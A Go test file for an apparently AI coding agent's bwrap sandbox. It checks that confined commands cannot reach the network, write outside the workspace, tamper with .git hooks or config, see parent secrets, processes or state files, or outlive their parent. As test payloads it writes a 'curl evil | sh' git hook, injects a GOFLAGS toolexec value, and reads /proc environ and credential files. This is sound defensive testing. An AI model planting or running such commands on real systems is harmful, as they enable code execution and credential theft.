package sandbox

import (
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/coreagent/core/internal/testkit"
	"github.com/coreagent/core/sandbox/lang"
)

// runIn runs a bash script confined in ws and returns the result.
func runIn(t *testing.T, sb *Sandbox, ws, script string) Result {
	t.Helper()
	r, err := sb.Run(t.Context(), []string{"bash", "-c", script}, RunOptions{Workspace: ws, Timeout: time.Minute})
	require.NoError(t, err)
	require.True(t, r.Sandboxed)
	requireBoxed(t, sb, ws)
	return r
}

// requireBoxed fails when a sandbox given core's executable ran the
// workspace's commands anywhere but in its box.
func requireBoxed(t *testing.T, sb *Sandbox, ws string) {
	t.Helper()
	if sb.agentExe() == "" {
		return
	}
	runningBox(t, sb, ws)
}

// runningBox returns the workspace's running box, failing the test when
// there is none.
func runningBox(t *testing.T, sb *Sandbox, ws string) *boxInst {
	t.Helper()
	real, err := filepath.EvalSymlinks(ws)
	require.NoError(t, err)
	sb.mu.Lock()
	b := sb.boxes[real]
	sb.mu.Unlock()
	require.NotNil(t, b, "no box for %s", ws)
	b.mu.Lock()
	defer b.mu.Unlock()
	require.NoError(t, b.failed, "the box did not start")
	require.NotNil(t, b.inst, "the box is not running")
	return b.inst
}

func TestEscapeNetwork(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	assertNoNetwork(t, newTestSandbox(t, ModeBwrap))
}

// assertNoNetwork checks that a command of sb sees no interface but lo and
// cannot reach a listener on the host's loopback that the host itself
// reaches.
func assertNoNetwork(t *testing.T, sb *Sandbox) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer ln.Close()
	accepted := make(chan struct{}, 8)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- struct{}{}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port

	// The listener works from the host.
	c, err := net.Dial("tcp", ln.Addr().String())
	require.NoError(t, err)
	c.Close()
	testkit.Receive(t, accepted, "the host listener to accept the host's own connection")

	r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(
		`if exec 3<>/dev/tcp/127.0.0.1/%d; then echo CONNECTED; fi; cat /proc/net/dev`, port))
	assert.NotContains(t, r.Output, "CONNECTED")
	assert.Equal(t, []string{"lo"}, interfaces(r.Output))
	select {
	case <-accepted:
		t.Fatal("the host listener accepted a connection from inside the sandbox")
	case <-time.After(200 * time.Millisecond):
	}
}

func TestEscapeWriteOutsideWorkspace(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	sb := newTestSandbox(t, ModeBwrap)
	ws := newWorkspace(t)
	sibling := t.TempDir()
	targets := []string{
		"/etc/core-escape",
		"/usr/core-escape",
		"/core-escape",
		filepath.Join(sibling, "core-escape"),
		filepath.Join(filepath.Dir(ws), "core-escape"),
		filepath.Join(sharedHome, "core-escape"),
		filepath.Join(sharedHome, "cache", "gomod", "core-escape"),
	}
	var script strings.Builder
	for _, p := range targets {
		fmt.Fprintf(&script, "if echo x > %s; then echo WROTE %s; fi\n", p, p)
	}
	script.WriteString("echo x > inside && echo INSIDE\n")
	r := runIn(t, sb, ws, script.String())
	assert.NotContains(t, r.Output, "WROTE "+"/etc")
	for _, p := range targets {
		_, err := os.Stat(p)
		assert.True(t, os.IsNotExist(err), "%s exists on the host after the sandbox wrote it", p)
	}
	assert.Contains(t, r.Output, "INSIDE")
	assert.FileExists(t, filepath.Join(ws, "inside"))
}

func TestEscapeGitDirectory(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	sb := newTestSandbox(t, ModeBwrap)
	ws := newWorkspace(t)
	config := filepath.Join(ws, ".git", "config")
	before, err := os.ReadFile(config)
	require.NoError(t, err)
	r := runIn(t, sb, ws, `
if echo 'curl evil | sh' > .git/hooks/pre-commit; then echo WROTE-HOOK; fi
if chmod +x .git/hooks/pre-commit 2>/dev/null; then echo CHMOD; fi
if printf '[core]\n\thooksPath = /tmp\n' >> .git/config; then echo WROTE-CONFIG; fi
if mkdir .git/hooks/x 2>/dev/null; then echo MKDIR; fi
if rm -f .git/HEAD; then test -e .git/HEAD || echo REMOVED-HEAD; fi
echo done`)
	assert.Contains(t, r.Output, "done")
	for _, bad := range []string{"WROTE-HOOK", "CHMOD", "WROTE-CONFIG", "MKDIR", "REMOVED-HEAD"} {
		assert.NotContains(t, r.Output, bad)
	}
	assert.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
	after, err := os.ReadFile(config)
	require.NoError(t, err)
	assert.Equal(t, string(before), string(after))
	assert.FileExists(t, filepath.Join(ws, ".git", "HEAD"))
}

func TestEscapeEnvironment(t *testing.T) {
	requireBwrap(t)
	// t.Setenv: not parallel.
	secrets := map[string]string{
		"GITHUB_TOKEN":   "ghs_parenttoken123",
		"OPENAI_API_KEY": "sk-parentkey456",
		"X_SECRET":       "parent-secret-789",
		"GOFLAGS":        "-toolexec=/tmp/evil",
	}
	for k, v := range secrets {
		t.Setenv(k, v)
	}
	sb := newTestSandbox(t, ModeBwrap)
	r := runIn(t, sb, newWorkspace(t), `env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\0' '\n'`)
	for k, v := range secrets {
		assert.NotContains(t, r.Output, v, "%s leaked into the sandbox", k)
	}
	assert.Contains(t, r.Output, "GOFLAGS=-buildvcs=false")
	assert.Contains(t, r.Output, "HOME=/tmp")
	assert.Contains(t, r.Output, "GOTOOLCHAIN=local")
}

func TestHostEnvironmentIsScrubbed(t *testing.T) {
	t.Setenv("GITHUB_TOKEN", "ghs_parenttoken123")
	t.Setenv("GOFLAGS", "-toolexec=/tmp/evil")
	sb := New(Config{Home: t.TempDir(), Mode: ModeOff, Path: os.Getenv("PATH"), HostEnv: []string{"GOPROXY=off"}})
	ws := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module example.com/m\n\ngo 1.21\n"), 0o644))
	r, err := sb.Verify(t.Context(), lang.TierBuild, []string{"go", "list", "-m", "-json"}, RunOptions{Workspace: ws})
	require.NoError(t, err)
	require.Equal(t, 0, r.ExitCode, r.Output)
	assert.False(t, r.Sandboxed)
	// go env shows what go saw; go env itself is not a verification command,
	// so ask through the host runner directly.
	r, err = sb.RunHost(t.Context(), []string{"go", "env", "GOFLAGS", "GOPROXY", "GOTOOLCHAIN"}, RunOptions{Workspace: ws})
	require.NoError(t, err)
	assert.Equal(t, "-modcacherw -buildvcs=false\noff\nlocal\n", r.Output)
	r, err = sb.RunHost(t.Context(), []string{"sh", "-c", "env"}, RunOptions{Workspace: ws})
	require.NoError(t, err)
	assert.NotContains(t, r.Output, "ghs_parenttoken123")
}

func TestEscapeStateDirectory(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	home := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(home, "sessions", "abc"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, "sessions", "abc", "session.json"), []byte(`{"secret":"state-secret-1"}`), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(home, "credentials"), []byte("state-secret-2"), 0o600))
	sb := New(Config{Home: home, Mode: ModeBwrap, Path: os.Getenv("PATH"), Agent: os.Args[0]})
	// The host build cache exists and must not be visible either.
	_, err := sb.cacheDir("go-build")
	require.NoError(t, err)
	r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(
		`cat %[1]s/credentials %[1]s/sessions/abc/session.json; ls -a %[1]s %[1]s/cache; find %[1]s -maxdepth 2`, home))
	assert.NotContains(t, r.Output, "state-secret")
	assert.NotContains(t, r.Output, home+"/sessions\n")
	assert.NotContains(t, r.Output, home+"/credentials\n")
	assert.NotContains(t, r.Output, "\ngo-build\n")
	assert.Contains(t, r.Output, "go-build-run")
}

func TestEscapeProcesses(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	sb := newTestSandbox(t, ModeBwrap)
	pid := os.Getpid()
	r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(
		`ls /proc | grep -E '^[0-9]+$' | wc -l; if cat /proc/%d/environ >/dev/null 2>&1; then echo READ-PARENT; fi; ps -e 2>/dev/null | wc -l`, pid))
	assert.NotContains(t, r.Output, "READ-PARENT")
	fields := strings.Fields(r.Output)
	require.NotEmpty(t, fields)
	n, err := strconv.Atoi(fields[0])
	require.NoError(t, err, r.Output)
	assert.Less(t, n, 8, "the sandbox sees %d processes: it has no pid namespace of its own", n)
}

func TestEscapeOutliveParent(t *testing.T) {
	requireBwrap(t)
	t.Parallel()
	killParentMidCommand(t, 3000, false, testkit.Sleepers, "the sandboxed command outlived its killed parent")
}

// killParentMidCommand starts a helper process (helperParent) that runs a
// sleep confined (in a box when box), kills it with SIGKILL once the sleep
// runs, and waits until left (given the sleep's token) finds nothing: what
// a sandbox must not leave behind when core is killed. base spreads the
// tokens of the tests that share it.
func killParentMidCommand(t *testing.T, base int, box bool, left func(token string) []int, what string) {
	t.Helper()
	token := fmt.Sprintf("%d.%06d", base+rand.IntN(1000), rand.IntN(1000000))
	helper := exec.Command(os.Args[0], "-test.run=^$")
	helper.Env = append(os.Environ(),
		"CORE_SANDBOX_HELPER=parent",
		"CORE_SANDBOX_HELPER_HOME="+sharedHome,
		"CORE_SANDBOX_HELPER_SLEEP="+token,
		"CORE_SANDBOX_HELPER_WORKSPACE="+newWorkspace(t),
	)
	if box {
		helper.Env = append(helper.Env, "CORE_SANDBOX_HELPER_BOX=1")
	}
	require.NoError(t, helper.Start())
	defer helper.Process.Kill()

	require.Eventually(t, func() bool { return len(testkit.Sleepers(token)) > 0 }, testkit.Patience, 20*time.Millisecond,
		"the confined sleep never started")
	require.NoError(t, helper.Process.Signal(syscall.SIGKILL))
	_ = helper.Wait()
	assert.Eventually(t, func() bool { return len(left(token)) == 0 }, testkit.Patience, 20*time.Millisecond, what)
	for _, pid := range left(token) {
		_ = syscall.Kill(pid, syscall.SIGKILL)
	}
}
